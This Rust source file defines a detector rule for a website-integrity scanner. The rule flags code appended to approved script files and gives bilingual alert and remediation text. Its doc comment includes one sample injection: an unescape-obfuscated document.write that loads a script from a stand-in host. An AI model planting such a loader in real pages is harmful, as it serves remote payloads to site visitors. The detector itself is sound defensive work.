//! Rule `script-appended`: code before or behind the whole of an approved script file.

use super::support::{Hosts, Standing, cut};
use super::{Detector, Findings, Found};
use crate::model::{
    ActiveItem, Case, Confidence, InputKind, MAX_EVIDENCE, Rule, ScriptReport, Severity, Sink, StaticWords, Version,
    Words,
};
use std::collections::HashSet;

/// # What it finds
///
/// A script file that holds the whole approved script unchanged, and more before or behind it. What was added is shown
/// alone. It alarms when the added part decodes something, or reaches a host that neither the approved script nor the
/// page's own site is, and that is no well-known service; it is for a person else.
///
/// # Why it matters
///
/// Gumblar, its 8080 kin, Parrot and many others write themselves to the end of the script files that a page loads. The
/// page itself stays as it was, and so does everything the script did before.
///
/// # Example
///
/// ```html
/// <script>/* the approved menu script, unchanged … */
/// document.write(unescape('%3Cscript src=//cdn-stat.example/q.js%3E%3C/script%3E'))</script>
/// ```
///
/// # Known false alarms
///
/// A build that puts another module behind the ones before, a configuration appended by hand: a new release mostly changes
/// more than its end, and a module that talks to the page's own site or to a well-known service is told as medium.
///
/// # References
///
/// Public samples of Gumblar.8080 and ndsw/Parrot: nearly all stand at the end of files such as jQuery plug-ins.
pub(super) struct ScriptAppended;

static RULE: Rule = Rule {
    id: "script-appended",
    title: StaticWords {
        en: "Code added to an approved script file", ja: "承認済みスクリプトファイルへの追記"
    },
    why: StaticWords {
        en: "A script file that the page loads is the approved one with more code at its end or beginning. Injections are written that way, because the page then looks and works as before.",
        ja: "ページが読み込むスクリプトファイルが、承認済みの内容の前後にコードを追加したものになっています。改ざんではこの方法がよく使われます。ページの見た目や動作は変わりません。",
    },
    first_step: StaticWords {
        en: "Ask the site's maintainers whether they added this code. If nobody did, keep a copy of the file, put back the approved one, look for the same code in all other script files, and change FTP and CMS passwords from a clean computer.",
        ja: "このコードを追加したか保守担当者に確認してください。心当たりがなければ、ファイルの写しを残したうえで承認済みのものに戻し、他のスクリプトファイルにも同じコードがないか調べ、安全な端末からFTPとCMSのパスワードを変更してください。",
    },
};

impl Detector for ScriptAppended {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn examine(&self, case: &Case, out: &mut Findings) {
        let Some(compared) = case.approved else { return };
        let (Some(new), Some(old)) = (file(&case.now), file(&compared.version)) else { return };
        let Some(added) = added(&old.value, &new.value) else { return };
        let (severity, confidence) = match worse(case, &compared.version) {
            true => (Severity::High, Confidence::Firm),
            false => (Severity::Medium, Confidence::Firm),
        };
        out.add(Found::new(severity, confidence, added.words()).on(new).evidence(cut(added.text, MAX_EVIDENCE)));
    }
}

/// The whole of a script file.
fn file<'a>(version: &Version<'a>) -> Option<&'a ActiveItem> {
    version.page.active.first().filter(|_| version.page.kind == InputKind::Script)
}

/// Code that was added, and where.
struct Added<'a> {
    text: &'a str,
    behind: bool,
}

impl Added<'_> {
    fn words(&self) -> Words {
        let (en, ja) = if self.behind { ("the end", "末尾") } else { ("the beginning", "先頭") };
        let length = self.text.len();
        Words::new(
            format!("{length} bytes of code were added at {en} of a script file that is otherwise unchanged"),
            format!("他は変更のないスクリプトファイルの{ja}に、{length}バイトのコードが追加されました"),
        )
    }
}

fn added<'a>(old: &str, new: &'a str) -> Option<Added<'a>> {
    let (old, new) = (old.trim(), new.trim());
    let behind = new.strip_prefix(old).map(|text| Added { text: text.trim(), behind: true });
    let before = || new.strip_suffix(old).map(|text| Added { text: text.trim(), behind: false });
    behind.or_else(before).filter(|added| !old.is_empty() && !added.text.is_empty())
}

/// Whether the script does more than the approved one in a way that nothing harmless needs: it decodes something, or
/// reaches a host of which nothing is known.
fn worse(case: &Case, old: &Version) -> bool {
    let before: HashSet<&str> = old.scripts.iter().flat_map(addresses).collect();
    let layers = |reports: &[ScriptReport]| reports.iter().map(|report| report.layers.len()).sum::<usize>();
    let hosts = Hosts::of(case);
    let reaches = case.now.scripts.iter().filter(|report| acts(report)).flat_map(addresses).any(|raw| {
        let standing = || hosts.resolve(raw).map(|url| hosts.standing(&url));
        !before.contains(raw) && matches!(standing(), Some(Standing::Unknown | Standing::Imitation(_)))
    });
    reaches || layers(case.now.scripts) > layers(old.scripts)
}

fn addresses(report: &ScriptReport) -> impl Iterator<Item = &str> {
    report.urls.iter().chain(&report.redirects).map(String::as_str)
}

fn acts(report: &ScriptReport) -> bool {
    report.sinks.iter().any(|sink| *sink != Sink::Clipboard)
}
